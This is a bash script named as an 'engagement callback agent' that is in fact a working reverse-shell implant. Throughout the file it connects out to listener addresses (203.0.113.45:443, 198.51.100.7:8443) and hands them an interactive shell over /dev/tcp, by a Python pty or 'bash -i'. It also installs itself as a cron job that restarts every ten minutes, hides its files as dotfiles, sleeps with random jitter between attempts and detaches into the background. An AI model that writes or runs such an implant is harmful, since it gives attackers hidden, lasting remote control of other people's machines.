#!/bin/bash
# callback-agent.sh - engagement callback agent.
#
# Reads its listener list from an optional config, tries each listener in
# turn and hands an interactive shell to the first one that answers.
# Between attempts it sleeps with jitter. On first run it registers itself
# to be restarted every ten minutes.
#
# config (~/.config/.cba.conf):  LISTENERS="203.0.113.45:443 198.51.100.7:8443"

CONF="${CBA_CONF:-$HOME/.config/.cba.conf}"
LISTENERS="203.0.113.45:443 198.51.100.7:8443"
BASE_SLEEP=60
JITTER=45
MAX_ROUNDS=0          # 0 = forever
PIDFILE="$HOME/.cache/.cba.pid"
SELF="$(readlink -f "$0")"

[ -r "$CONF" ] && . "$CONF"

log() { [ -n "${CBA_DEBUG:-}" ] && echo "cba: $*" >&2; }

already_running() {
    [ -f "$PIDFILE" ] || return 1
    local pid
    pid=$(cat "$PIDFILE" 2>/dev/null)
    [ -n "$pid" ] && kill -0 "$pid" 2>/dev/null
}

register() {
    local line="*/10 * * * * $SELF >/dev/null 2>&1"
    if ! crontab -l 2>/dev/null | grep -Fq "$SELF"; then
        ( crontab -l 2>/dev/null; echo "$line" ) | crontab -
        log "registered cron entry"
    fi
}

port_open() {
    local host="$1" port="$2"
    timeout 5 bash -c "exec 3<>/dev/tcp/$host/$port" 2>/dev/null
}

connect_back() {
    local host="$1" port="$2" sh
    for sh in /bin/bash /usr/bin/bash /bin/sh; do
        [ -x "$sh" ] && break
    done
    log "handing $sh to $host:$port"
    if command -v python3 >/dev/null 2>&1; then
        # prefer a pty so the operator gets job control
        exec 5<>"/dev/tcp/$host/$port" || return 1
        python3 -c 'import os,pty; [os.dup2(5,f) for f in (0,1,2)]; pty.spawn(os.environ.get("CBA_SH","/bin/bash"))' 5<&5
    else
        "$sh" -i >& "/dev/tcp/$host/$port" 0>&1
    fi
}

sleep_jitter() {
    local s=$(( BASE_SLEEP + RANDOM % (JITTER + 1) ))
    log "sleeping ${s}s"
    sleep "$s"
}

main() {
    if already_running; then
        log "already running"
        exit 0
    fi
    mkdir -p "$(dirname "$PIDFILE")"
    echo $$ > "$PIDFILE"
    trap 'rm -f "$PIDFILE"' EXIT
    register

    local round=0 target host port
    while :; do
        round=$(( round + 1 ))
        for target in $LISTENERS; do
            host="${target%:*}"
            port="${target##*:}"
            if port_open "$host" "$port"; then
                CBA_SH="/bin/bash" connect_back "$host" "$port"
            else
                log "$host:$port unreachable"
            fi
        done
        if [ "$MAX_ROUNDS" -gt 0 ] && [ "$round" -ge "$MAX_ROUNDS" ]; then
            break
        fi
        sleep_jitter
    done
}

export CBA_SH=/bin/bash
main "$@" </dev/null >/dev/null 2>&1 &
disown 2>/dev/null
exit 0
